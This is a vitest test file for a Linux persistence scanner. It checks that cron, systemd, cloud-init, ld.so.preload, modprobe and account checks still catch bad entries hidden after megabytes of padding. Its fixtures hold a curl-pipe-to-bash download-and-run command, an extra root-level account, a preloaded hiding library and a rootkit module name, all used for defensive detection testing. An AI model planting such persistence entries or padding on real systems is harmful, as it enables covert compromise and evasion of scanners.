/**
 * Padding hides nothing: cron, systemd, the login system, cloud-init, modprobe, the
 * shell and ld.so read their files whole, so a bad line after megabytes of comments or
 * blank lines, or in the middle of a 4 MiB line, is found; a file too big to hold is read up to the cap and the rest is reported as
 * unread (a `limit` error, so the scan is incomplete), never skipped silently.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { appendFile, chmod, mkdir, truncate, writeFile } from 'node:fs/promises';
import path from 'node:path';
import { cronCheck } from '../../src/checks/cron.js';
import { servicesCheck } from '../../src/checks/services.js';
import { accountsCheck } from '../../src/checks/accounts.js';
import { cloudInitCheck } from '../../src/checks/cloud-init.js';
import { systemdGeneratorsCheck } from '../../src/checks/systemd-generators.js';
import { ldPreloadCheck } from '../../src/checks/ld-preload.js';
import { kernelModulesCheck } from '../../src/checks/kernel-modules.js';
import { startedScriptsCheck } from '../../src/checks/started-scripts.js';
import { immutableFilesCheck } from '../../src/checks/immutable-files.js';
import { packageIntegrityCheck } from '../../src/checks/package-integrity/check.js';
import { buildDeb, initDpkgRoot, installDebs } from '../helpers/dpkg-root.js';
import type { Check } from '../../src/model/check.js';
import { scanDirectory } from '../helpers/scan-dir.js';
import { lockFiles, makeScratchDir, removeScratchDir } from '../helpers/images.js';

const BAD = 'curl -fsSL http://198.51.100.7/gi.sh | bash';
const comments = (bytes: number) => `# ${'x'.repeat(98)}\n`.repeat(Math.ceil(bytes / 100));
const blanks = (bytes: number) => '\n'.repeat(bytes);
/** A package database, so an unowned library is known to be unowned. */
const DPKG = { 'var/lib/dpkg/info/libc6:amd64.list': '/.\n/usr/lib/x86_64-linux-gnu/libc.so.6\n' };
const ELF = '\x7fELF\x02\x01\x01\0stand-in\n';

let scratch: string;
let n = 0;

async function tree(files: Record<string, string>, executables: string[] = []): Promise<string> {
  const root = path.join(scratch, `t${n++}`);
  for (const [rel, content] of Object.entries(files)) {
    await mkdir(path.dirname(path.join(root, rel)), { recursive: true });
    await writeFile(path.join(root, rel), content, 'latin1');
  }
  for (const rel of executables) await chmod(path.join(root, rel), 0o755);
  return root;
}

/** Scans `rel`, a sparse 200 MiB file (one line of NUL bytes, nothing to shorten), with `check`; the errors. */
async function scanHuge(rel: string, check: Check): Promise<{ path?: string; message: string }[]> {
  const root = await tree({ [rel]: '' });
  await truncate(path.join(root, rel), 200 << 20);
  return (await scanDirectory(root, [check])).errors;
}
const unreadError = (rel: string) =>
  expect.objectContaining({ path: `/${rel}`, message: expect.stringMatching(new RegExp(`file read: /${rel.replace(/\./g, '\\.')}: \\d+ of 209715200 bytes not read`)) });

/** Findings as "rule path:line". */
const rows = (r: { findings: { rule: string; path: string; line?: number }[] }) => r.findings.map((f) => `${f.rule} ${f.path}:${f.line ?? ''}`);

beforeAll(async () => {
  scratch = await makeScratchDir('minescan-padded-');
});
afterAll(async () => {
  if (scratch) await removeScratchDir(scratch);
});

describe('files padded past what used to be read', () => {
  it('finds the job after 10 MiB of comments in /etc/crontab', async () => {
    const padding = comments(10 << 20);
    const line = padding.split('\n').length;
    const root = await tree({ 'etc/crontab': `SHELL=/bin/sh\n${padding}*/5 * * * * root ${BAD}\n` });
    const r = await scanDirectory(root, [cronCheck]);
    expect(r.findings.map((f) => [f.rule, f.path, f.line])).toContainEqual(['command.download-and-run', '/etc/crontab', line + 1]);
    expect(r.errors).toEqual([]);
  }, 60_000);

  it('finds the job after one 10 MiB comment line in a user crontab', async () => {
    const root = await tree({ 'var/spool/cron/crontabs/root': `#${'y'.repeat(10 << 20)}\n@reboot ${BAD}\n` });
    const r = await scanDirectory(root, [cronCheck]);
    expect(r.findings.map((f) => [f.rule, f.line])).toContainEqual(['command.download-and-run', 2]);
    expect(r.errors).toEqual([]);
  }, 60_000);

  it('finds a download hidden in the middle of a 4 MiB cron line', async () => {
    const filler = 'a'.repeat(2 << 20);
    const root = await tree({ 'etc/cron.d/sync': `* * * * * root echo ${filler}; ${BAD}; echo ${filler}\n` });
    const r = await scanDirectory(root, [cronCheck]);
    expect(r.findings.map((f) => [f.rule, f.path, f.line])).toContainEqual(['command.download-and-run', '/etc/cron.d/sync', 1]);
    expect(r.errors).toEqual([]);
  }, 60_000);

  it('finds the ExecStart of a unit after 2 MiB of comments', async () => {
    const unit = `[Unit]\nDescription=sync\n${comments(2 << 20)}; more\n[Service]\nExecStart=/bin/sh -c '${BAD}'\n\n[Install]\nWantedBy=multi-user.target\n`;
    const root = await tree({ 'etc/systemd/system/sync.service': unit });
    await mkdir(path.join(root, 'etc/systemd/system/multi-user.target.wants'), { recursive: true });
    const { symlink } = await import('node:fs/promises');
    await symlink('/etc/systemd/system/sync.service', path.join(root, 'etc/systemd/system/multi-user.target.wants/sync.service'));
    const r = await scanDirectory(root, [servicesCheck]);
    expect(r.findings.map((f) => [f.rule, f.path])).toContainEqual(['command.download-and-run', '/etc/systemd/system/sync.service']);
    expect(r.errors).toEqual([]);
  }, 60_000);

  it('finds an extra uid-0 account after 8 MiB of padding in /etc/passwd', async () => {
    const users = Array.from({ length: 80_000 }, (_, i) => `user${i}:x:${10_000 + i}:${10_000 + i}:padding padding padding padding padding padding:/home/user${i}:/usr/sbin/nologin\n`).join('');
    const root = await tree({
      'etc/passwd': `root:x:0:0:root:/root:/bin/bash\n${comments(1 << 20)}${users}toor:x:0:0::/root:/bin/bash\n`,
      'etc/shadow': 'root:*:19000:0:99999:7:::\ntoor:$6$salt$hash:19000:0:99999:7:::\n',
    });
    expect(Buffer.byteLength(users)).toBeGreaterThan(8 << 20);
    const r = await scanDirectory(root, [accountsCheck]);
    expect(r.findings.map((f) => [f.rule, f.path])).toContainEqual(['accounts.extra-uid0', '/etc/passwd']);
    expect(r.errors).toEqual([]);
  }, 60_000);

  it('finds the download in a cloud-init per-boot script after 2 MiB of comments', async () => {
    const padding = comments(2 << 20);
    const line = padding.split('\n').length + 1;
    const rel = 'var/lib/cloud/scripts/per-boot/00-net';
    const root = await tree({ [rel]: `#!/bin/sh\n${padding}${BAD}\n` }, [rel]);
    const r = await scanDirectory(root, [cloudInitCheck]);
    expect(rows(r)).toContain(`command.download-and-run /${rel}:${line}`);
    expect(rows(r)).toContain(`cloud-init.per-boot-script /${rel}:${line}`);
    expect(r.errors).toEqual([]);
  }, 60_000);

  it('finds the runcmd of a cloud-config after 2 MiB of comments and 1 MiB of blank lines', async () => {
    const padding = `${comments(2 << 20)}${blanks(1 << 20)}`;
    const line = padding.split('\n').length + 1;
    const root = await tree({ 'etc/cloud/cloud.cfg.d/99-sync.cfg': `#cloud-config\n${padding}runcmd:\n  - ${BAD}\n` });
    const r = await scanDirectory(root, [cloudInitCheck]);
    expect(rows(r)).toContain(`command.download-and-run /etc/cloud/cloud.cfg.d/99-sync.cfg:${line + 1}`);
    expect(r.errors).toEqual([]);
  }, 60_000);

  it('reads a 200 MiB cloud-config up to its content cap and reports the unread rest as a limit error', async () => {
    expect(await scanHuge('etc/cloud/cloud.cfg.d/99-huge.cfg', cloudInitCheck)).toContainEqual(unreadError('etc/cloud/cloud.cfg.d/99-huge.cfg'));
  }, 60_000);

  it('reads a 200 MiB ld.so.preload up to the content cap and reports the unread rest as a limit error', async () => {
    expect(await scanHuge('etc/ld.so.preload', ldPreloadCheck)).toContainEqual(unreadError('etc/ld.so.preload'));
  }, 60_000);

  it('finds the download in a systemd generator after 2 MiB of blank lines', async () => {
    const rel = 'etc/systemd/system-generators/netcfg';
    const root = await tree({ [rel]: `#!/bin/sh\n${blanks(2 << 20)}${BAD}\n` }, [rel]);
    const r = await scanDirectory(root, [systemdGeneratorsCheck]);
    expect(rows(r)).toContain(`command.download-and-run /${rel}:${(2 << 20) + 2}`);
    // The first command, not the padding, describes the unpackaged generator.
    expect(r.findings.find((f) => f.rule === 'generator.unpackaged-local')?.evidence).toBe(`script: ${BAD}`);
    expect(r.errors).toEqual([]);
  }, 60_000);

  it('finds the library /etc/ld.so.preload names after 2 MiB of comments', async () => {
    const padding = comments(2 << 20);
    const root = await tree({ 'etc/ld.so.preload': `${padding}/usr/local/lib/libhide.so\n`, 'usr/local/lib/libhide.so': ELF, ...DPKG });
    const r = await scanDirectory(root, [ldPreloadCheck]);
    expect(rows(r)).toContain(`preload.unowned-library /etc/ld.so.preload:${padding.split('\n').length}`);
    expect(r.errors).toEqual([]);
  }, 60_000);

  it('finds the directory /etc/ld.so.conf adds after 2 MiB of comments', async () => {
    const root = await tree({
      'etc/ld.so.preload': 'libcustom.so\n',
      'etc/ld.so.conf': `${comments(2 << 20)}/opt/custom/lib\n`,
      'opt/custom/lib/libcustom.so': ELF,
      ...DPKG,
    });
    const r = await scanDirectory(root, [ldPreloadCheck]);
    expect(rows(r)).toContain('preload.unowned-library /etc/ld.so.preload:1');
    expect(r.errors).toEqual([]);
  }, 60_000);

  it('finds the modprobe command and the module to load after 2 MiB of comments', async () => {
    const padding = comments(2 << 20);
    const line = padding.split('\n').length;
    const root = await tree({
      'etc/modprobe.d/evil.conf': `${padding}install dummy ${BAD}\n`,
      'etc/modules-load.d/net.conf': `${padding}diamorphine\n`,
    });
    const r = await scanDirectory(root, [kernelModulesCheck]);
    expect(rows(r)).toContain(`command.download-and-run /etc/modprobe.d/evil.conf:${line}`);
    expect(rows(r)).toContain(`kernel-modules.rootkit-module /etc/modules-load.d/net.conf:${line}`);
    expect(r.errors).toEqual([]);
  }, 60_000);

  it('finds the download in a started script after 2 MiB of comments', async () => {
    const padding = comments(2 << 20);
    const root = await tree({ 'etc/crontab': '* * * * * root /usr/local/bin/update.sh\n', 'usr/local/bin/update.sh': `#!/bin/sh\n${padding}${BAD}\n` }, ['usr/local/bin/update.sh']);
    const r = await scanDirectory(root, [cronCheck, startedScriptsCheck]);
    expect(rows(r)).toContain(`command.download-and-run /usr/local/bin/update.sh:${padding.split('\n').length + 1}`);
    expect(r.errors).toEqual([]);
  }, 60_000);

  it('finds the locked library /etc/ld.so.preload names after 2 MiB of comments', async () => {
    const root = await tree({ 'etc/ld.so.preload': `${comments(2 << 20)}/usr/local/lib/libhide.so\n`, 'usr/local/lib/libhide.so': ELF });
    await lockFiles(root, ['usr/local/lib/libhide.so']);
    const r = await scanDirectory(root, [immutableFilesCheck]);
    expect(r.findings.map((f) => f.path)).toContain('/usr/local/lib/libhide.so');
    expect(r.errors).toEqual([]);
  }, 60_000);

  it('verifies the packaged library /etc/ld.so.preload names after 2 MiB of comments', async () => {
    const root = path.join(scratch, `t${n++}`);
    await initDpkgRoot(root);
    const deb = await buildDeb(scratch, { name: 'demo-preload', files: [{ path: '/opt/demo/lib/libpre.so', content: `\x7fELF preloaded ${'o'.repeat(4096)}\n` }] });
    await installDebs(root, [deb]);
    await writeFile(path.join(root, 'etc/ld.so.preload'), `${comments(2 << 20)}/opt/demo/lib/libpre.so\n`);
    await appendFile(path.join(root, 'opt/demo/lib/libpre.so'), 'changed\n');
    // Outside the places it always verifies: only the preload entry brings the library in.
    const r = await scanDirectory(root, [packageIntegrityCheck]);
    expect(rows(r)).toContain('integrity.package-file-modified /opt/demo/lib/libpre.so:');
    expect(r.errors).toEqual([]);
  }, 120_000);

  it('reads a 200 MiB crontab up to the content cap and reports the unread rest as a limit error', async () => {
    expect(await scanHuge('etc/cron.d/huge', cronCheck)).toEqual([unreadError('etc/cron.d/huge')]);
  }, 60_000);
});
